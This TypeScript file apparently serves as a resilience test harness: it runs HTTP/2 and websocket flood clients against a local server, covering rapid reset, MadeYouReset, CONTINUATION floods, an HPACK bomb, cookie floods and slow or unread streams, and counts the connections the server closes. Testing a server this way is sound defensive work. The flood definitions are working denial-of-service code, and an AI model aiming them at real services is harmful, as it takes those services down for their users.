/** A program: HTTP/2 clients that send floods of frames over connections of their own, and open another one when theirs ends. */
import { once } from "node:events";
import { performance } from "node:perf_hooks";
import { connect, type TLSSocket } from "node:tls";
import { flag, frameType, uint32Bytes } from "../../protocols/http2/frames.ts";
import { preface, setting, settingsPayload } from "../../protocols/http2/settings.ts";
import { block, frame, headers, request } from "../../server/listen/testing/frames-client.ts";
import { answerLines } from "./children.ts";

/** The floods, by name. Streams have odd numbers from 1. */
export interface Flood {
  /** Sent once, at the start of a connection. */
  readonly first?: readonly Buffer[];
  /** Sent again and again. */
  unit(stream: number): Buffer;
  /** Streams of each connection, if bounded: after them it sends nothing, and keeps the connection. */
  readonly streamsMax?: number;
  /** Milliseconds between two units. */
  readonly pauseMs?: number;
  /** Whether the client reads nothing. */
  readonly isDeaf?: boolean;
  /** The request that opens a websocket: units are its frames. Default: frames of HTTP/2. */
  readonly websocket?: string;
}

export interface FloodOrder {
  readonly flood: string;
  readonly port: number;
  readonly token: string;
  readonly connections: number;
  readonly seconds: number;
}
export interface Flooded {
  readonly units: number;
  readonly bytes: number;
  /** Connections that the server has ended. */
  readonly ended: number;
}

/** Longest wait for a server that reads nothing, in milliseconds, before the client looks at the clock. */
const stuckMs = 200;
/** Bytes of units that are sent in one write. */
const batchBytes = 16 * 1024;
const cookies = 900;
const openStreams = 250;
const path = "/api/v1/namespaces/default/configmaps";

export function floodsFor(token: string): Readonly<Record<string, Flood>> {
  const fields = (more: Readonly<Record<string, string>> = {}) => request({ ":path": path, authorization: `Bearer ${token}`, ...more });
  const get = fields(), post = fields({ ":method": "POST", "content-type": "application/json" });
  const opened = [headers(1, post, 0)];
  const websocket = [
    `GET ${path}?watch=1 HTTP/1.1`,
    ...["Host: localhost", `Authorization: Bearer ${token}`, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"],
    ...["Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "", ""],
  ].join("\r\n");
  // 4,000 bytes in the table, and references to them.
  const bomb = block(get) + "\x40\x01a\x7f\xa1\x1e" + "x".repeat(4_000);
  return {
    "rapid reset": { unit: (id) => Buffer.concat([headers(id, get), frame(frameType.reset, 0, id, uint32Bytes(8))]) },
    "MadeYouReset": { unit: (id) => Buffer.concat([headers(id, get), frame(frameType.windowUpdate, 0, id, uint32Bytes(0))]) },
    "CONTINUATION": { first: [frame(frameType.headers, 0, 1, block(get))], unit: () => frame(frameType.continuation, 0, 1) },
    "SETTINGS": { unit: () => frame(frameType.settings, 0, 0, settingsPayload([[setting.initialWindowSize, 65_535]])) },
    "large SETTINGS": {
      unit: () =>
        frame(frameType.settings, 0, 0, settingsPayload(Array.from({ length: 2_000 }, () => [setting.initialWindowSize, 65_535] as const))),
    },
    "unread HEAD": { unit: (id) => headers(id, fields({ ":method": "HEAD", ":path": "/version" })), isDeaf: true },
    "unread PING": { unit: () => frame(frameType.ping, 0, 0, "12345678"), isDeaf: true },
    "PING": { unit: () => frame(frameType.ping, 0, 0, "12345678") },
    "empty DATA": { first: opened, unit: () => frame(frameType.data, 0, 1) },
    "websocket frames": { websocket, unit: () => message(0x81, "") },
    "websocket fragments": { websocket, first: [message(0x01, "")], unit: () => message(0x00, "a") },
    "websocket pings": { websocket, unit: () => message(0x89, "12345678") },
    "unread websocket pings": { websocket, unit: () => message(0x89, "1".repeat(125)), isDeaf: true },
    "unread websocket watches": { websocket, unit: () => message(0x8a, ""), pauseMs: 100, isDeaf: true },
    "PRIORITY": { first: opened, unit: () => frame(frameType.priority, 0, 1, Buffer.concat([uint32Bytes(0), Buffer.of(1)])) },
    "unknown frames": { first: opened, unit: () => frame(200, 0, 1, "x") },
    "WINDOW_UPDATE": { first: [headers(1, get)], unit: () => frame(frameType.windowUpdate, 0, 1, uint32Bytes(1)) },
    "zero windows": {
      first: [frame(frameType.settings, 0, 0, settingsPayload([[setting.initialWindowSize, 0]]))],
      unit: (id) => headers(id, fields({ ":path": "/openapi/v2" })),
      streamsMax: openStreams,
    },
    "HPACK bomb": {
      first: [frame(frameType.headers, 5, 1, bomb)],
      unit: (id) => frame(frameType.headers, 5, id + 2, block(get) + "\xbe".repeat(15_000)),
    },
    "900 cookies": {
      unit: (id) =>
        frame(
          frameType.headers,
          5,
          id,
          block([...fields({ ":path": "/livez" }), ...Array.from({ length: cookies }, (_, at) => ["cookie", `a=${at}`] as const)]),
        ),
    },
    "900 cookies, open": {
      unit: (id) =>
        frame(
          frameType.headers,
          flag.endHeaders,
          id,
          block([...post, ...Array.from({ length: cookies }, (_, at) => ["cookie", `a=${at}`] as const)]),
        ),
      streamsMax: openStreams,
    },
    "slow bodies": {
      first: Array.from({ length: openStreams }, (_, at) => headers(2 * at + 1, post, 0)),
      unit: () => Buffer.concat(Array.from({ length: openStreams }, (_, at) => frame(frameType.data, 0, 2 * at + 1, " "))),
      pauseMs: 100,
    },
    "filled bodies": {
      first: Array.from({ length: openStreams }, (_, at) => headers(2 * at + 1, post, 0)),
      unit: (id) => frame(frameType.data, 0, id % (2 * openStreams), Buffer.alloc(4_000, " ")),
      streamsMax: openStreams,
    },
  };
}

/** A short frame of a websocket with a mask of zeros. */
function message(first: number, payload: string): Buffer {
  return Buffer.concat([Buffer.of(first, 0x80 | payload.length, 0, 0, 0, 0), Buffer.from(payload)]);
}

async function flood({ flood, port, token, connections, seconds }: FloodOrder): Promise<Flooded> {
  const what = floodsFor(token)[flood]!;
  const until = performance.now() + seconds * 1000;
  let units = 0, bytes = 0, ended = 0;

  async function one(): Promise<void> {
    while (performance.now() < until) {
      const socket = connect({
        host: "127.0.0.1",
        port,
        rejectUnauthorized: false,
        ALPNProtocols: [what.websocket === undefined ? "h2" : "http/1.1"],
      });
      try {
        await once(socket, "secureConnect");
        await send(socket);
      } catch { /* Ended by the server. */ }
      if (performance.now() < until) ended++;
      socket.destroy();
    }
  }
  async function send(socket: TLSSocket): Promise<void> {
    let over = false, wake = (): void => {};
    const end = (): void => {
      over = true;
      wake();
    };
    socket.on("error", end).on("close", end).on("end", end).on("drain", () => wake());
    if (what.isDeaf !== true) socket.resume();
    const opening = what.websocket === undefined ? [Buffer.from(preface), frame(frameType.settings, 0, 0)] : [Buffer.from(what.websocket)];
    socket.write(Buffer.concat([...opening, ...what.first ?? []]));
    let stream = what.first === undefined || what.streamsMax !== undefined ? 1 : 3, sent = 0;
    while (!over && performance.now() < until) {
      if (sent >= (what.streamsMax ?? Infinity)) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        continue;
      }
      const batch: Buffer[] = [];
      for (let size = 0; size < batchBytes && sent < (what.streamsMax ?? Infinity); stream += 2, sent++) {
        const unit = what.unit(stream);
        size += unit.length;
        batch.push(unit);
        if (what.pauseMs !== undefined) break;
      }
      units += batch.length;
      bytes += batch.reduce((sum, { length }) => sum + length, 0);
      const isTaken = socket.write(Buffer.concat(batch));
      await new Promise<void>((resolve) => {
        if (isTaken) return void setTimeout(resolve, what.pauseMs ?? 0);
        wake = resolve;
        setTimeout(resolve, stuckMs);
      });
    }
  }
  await Promise.all(Array.from({ length: connections }, one));
  return { units, bytes, ended };
}

await answerLines(flood);
